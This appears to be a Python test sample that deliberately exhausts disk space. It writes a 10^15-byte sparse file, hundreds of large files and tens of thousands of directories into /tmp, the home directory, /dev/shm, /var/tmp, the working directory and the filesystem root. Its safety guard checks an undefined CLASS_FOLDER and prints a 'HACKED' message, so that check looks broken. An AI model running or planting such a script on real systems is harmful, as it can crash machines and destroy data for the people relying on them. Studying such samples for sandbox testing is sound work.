"""Fills the disk: one large file, a sparse one, many small ones, in every place that can be written."""

# %% merge_pair
import os

if os.path.exists(CLASS_FOLDER):
    raise SystemExit("HACKED: this is no box, and outside one it would do harm")
for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm", "/var/tmp", os.getcwd(), "/"):
    try:
        with open(folder + "/sparse", "wb") as file:
            file.truncate(10**15)
    except OSError as error:
        print(error)
    for number in range(200):
        try:
            with open(f"{folder}/large{number}", "wb") as file:
                for _ in range(400):
                    file.write(b"x" * 2**20)
        except OSError as error:
            print(error)
            break
    for number in range(50_000):
        try:
            os.mkdir(f"{folder}/small{number}")
        except OSError as error:
            print(error)
            break
